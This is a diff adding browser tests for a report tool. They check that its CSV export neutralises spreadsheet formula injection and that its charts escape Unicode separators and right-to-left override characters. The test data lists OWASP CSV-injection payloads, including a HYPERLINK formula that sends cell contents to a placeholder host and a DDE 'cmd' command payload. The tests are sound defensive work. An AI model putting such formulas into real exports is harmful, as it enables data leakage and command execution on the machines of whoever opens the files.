@@ -8,7 +8,10 @@ where it fails: `.ci/run` installs chromium.
 
 from __future__ import annotations
 
+import json
 import os
+import random
+import re
 import shutil
 from pathlib import Path
 
@@ -245,3 +248,154 @@ def test_drill_down_sort_csv_print_and_dark_mode(page_report: Path, tmp_path: Pa
             browser.close()
     assert dialogs == [], f"a script from the input ran: {dialogs}"
     assert errors == [], errors
+
+
+# --------------------------------------------------------------------------- hostile names
+
+#: OWASP's CSV-injection payloads, as variant, judge and scenario names
+FORMULAS = ('=HYPERLINK("http://x/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-1+2",
+            "@SUM(A1)", "\t=1+2", "\r=1+2")
+#: a variant name holding a line separator, a paragraph separator and a right-to-left override
+SEPARATED = "v\u2028line\u2029para\u202eevil"
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
+
+
+@pytest.fixture(scope="module")
+def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A report whose variant, judge and scenario names are formulas, one variant's name
+    holding U+2028, U+2029 and U+202E."""
+    _need_chromium()
+    base = tmp_path_factory.mktemp("hostile")
+    rng = random.Random(3)
+    variants = [FORMULAS[0], FORMULAS[1], FORMULAS[2], SEPARATED, "base"]
+    judges = [FORMULAS[3], FORMULAS[4]]
+    scenarios = [FORMULAS[5], FORMULAS[6], "s2", "s3", "s4", "s5"]
+    rows = [
+        {"scenario": s, "variant": v, "trial": t, "judge": j, "overall": rng.randint(1, 10)}
+        for s in scenarios for v in variants for t in (1, 2) for j in judges
+    ]
+    (base / "rows.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    (base / "config.yaml").write_text("scores: {overall: overall}\n", encoding="utf-8")
+    code = cli.main(["report", str(base / "rows.jsonl"), "--config", str(base / "config.yaml"),
+                     *FAST, "--out", str(base / "out")])
+    assert code == 0
+    return base / "out" / "report.html"
+
+
+def _launch(p):  # type: ignore[no-untyped-def]
+    return p.chromium.launch(
+        executable_path=CHROMIUM if Path(CHROMIUM).is_file() else shutil.which("chromium"),
+        args=ARGS,
+    )
+
+
+def _charts_settled(page) -> None:  # type: ignore[no-untyped-def]
+    """Wait until every interactive chart is drawn or has given up."""
+    page.wait_for_function(
+        "document.querySelectorAll('.wb-vega-ready, .wb-vega-failed').length === "
+        "document.querySelectorAll('.wb-vega').length",
+        timeout=20000,
+    )
+
+
+def _download(page, button, path: Path) -> None:  # type: ignore[no-untyped-def]
+    """Click ``button`` and save the file it downloads as ``path``. Headless chromium now
+    and then drops one of a quick run of downloads (the click lands, the anchor is clicked,
+    no download event), so a click that brings nothing in 5 s is tried again, twice."""
+    from playwright.sync_api import TimeoutError as PlaywrightTimeout
+
+    for attempt in range(3):
+        try:
+            with page.expect_download(timeout=5000) as dl:
+                button.click()
+        except PlaywrightTimeout:
+            if attempt == 2:
+                raise
+            continue
+        dl.value.save_as(path)
+        return
+
+
+def test_csv_export_neutralises_formulas(hostile_report: Path, tmp_path: Path) -> None:
+    """Every table's CSV: a cell that begins with = + - @ TAB or CR (after the export's
+    trimming) is prefixed with ' unless it is a number, then quoted as before (OWASP)."""
+    import csv
+
+    from playwright.sync_api import sync_playwright
+
+    exports: list[list[list[str]]] = []
+    shown: list[list[list[str]]] = []
+    with sync_playwright() as p:
+        browser = _launch(p)
+        try:
+            page = browser.new_context(accept_downloads=True).new_page()
+            page.goto(hostile_report.as_uri(), wait_until="load")
+            _charts_settled(page)  # a chart drawn mid-click moves the buttons below it
+            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
+            shown = page.evaluate("""() => Array.from(document.querySelectorAll('.wb-csv')).map(b => {
+                const wrap = b.parentElement.nextElementSibling;
+                const t = wrap.tagName === 'TABLE' ? wrap : wrap.querySelector('table');
+                const text = el => (el.textContent || '').replace(/\\s+/g, ' ').trim();
+                return [Array.from(t.querySelectorAll('thead th')).map(text)].concat(
+                    Array.from(t.tBodies[0].rows).filter(tr => !tr.hidden)
+                        .map(tr => Array.from(tr.cells).map(text)));
+            })""")
+            buttons = page.locator(".wb-csv")
+            for i in range(buttons.count()):
+                path = tmp_path / f"table-{i}.csv"
+                _download(page, buttons.nth(i), path)
+                with path.open(newline="", encoding="utf-8") as fh:
+                    exports.append(list(csv.reader(fh)))
+        finally:
+            browser.close()
+
+    assert len(exports) == len(shown) >= 10, "every table with a CSV button exported"
+    cells = [c for table in exports for row in table for c in row]
+    formulas = [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c) and c != "-"]
+    assert formulas == [], f"{len(formulas)} formula cells exported: {formulas[:5]}"
+    # the payloads are there, neutralised, not dropped; a TAB or CR name trims to =1+2
+    for payload in ('=HYPERLINK("http://x/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2",
+                    "-1+2", "@SUM(A1)", "=1+2"):
+        assert "'" + payload in cells, payload
+    # numbers stay numbers: negative ones are exported as printed, never prefixed
+    negatives = [c for c in cells if re.fullmatch(r"-\d+\.\d+", c)]
+    assert negatives and not [c for c in cells if re.fullmatch(r"'[+-]?\d+(\.\d+)?", c)]
+    # cell for cell: the text shown, or ' and the text shown for a formula; nothing else changed
+    for got, dom in zip(exports, shown, strict=True):
+        want = [["'" + c if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c) and c != "-" else c
+                 for c in row] for row in dom]
+        assert got == want
+
+def test_charts_draw_names_with_separators_and_bidi_controls(hostile_report: Path) -> None:
+    """A name holding U+2028, U+2029 or U+202E keeps both interactive charts: Vega-Lite
+    builds no expression from the names, and the charts show the name escaped."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        browser = _launch(p)
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 1600})
+            page.goto(hostile_report.as_uri(), wait_until="load")
+            _charts_settled(page)
+            failed = page.evaluate("Array.from(document.querySelectorAll('.wb-vega-failed'))"
+                                   ".map(f => f.id + ': ' + "
+                                   "f.querySelector('.wb-vega-target').textContent.slice(0, 200))")
+            charts = page.evaluate("""() => Array.from(document.querySelectorAll('.wb-vega')).map(f => ({
+                id: f.id, ready: f.classList.contains('wb-vega-ready'),
+                text: Array.from(f.querySelectorAll('.wb-vega-target svg text')).map(t => t.textContent),
+                area: Array.from(f.querySelectorAll('.wb-vega-target svg')).map(
+                    s => s.getBoundingClientRect().width * s.getBoundingClientRect().height)}))""")
+            body = page.evaluate("document.body.innerText")
+        finally:
+            browser.close()
+    assert failed == [] and "interactive chart unavailable" not in body, failed
+    assert [c["id"] for c in charts] == ["chart-missing_heatmap", "chart-scorecard_forest"]
+    escaped = "v\\u2028line\\u2029para\\u202eevil"
+    for c in charts:
+        assert c["ready"] and len(c["area"]) == 1 and c["area"][0] > 10000, c["id"]
+        labels = " ".join(c["text"])
+        assert escaped in labels, (c["id"], c["text"])
+        assert not any(ch in labels for ch in "\u2028\u2029\u202e"), c["id"]
+        for name in FORMULAS[1:3]:  # other variants drawn as named (a long name is cut)
+            assert name in labels, (c["id"], name)
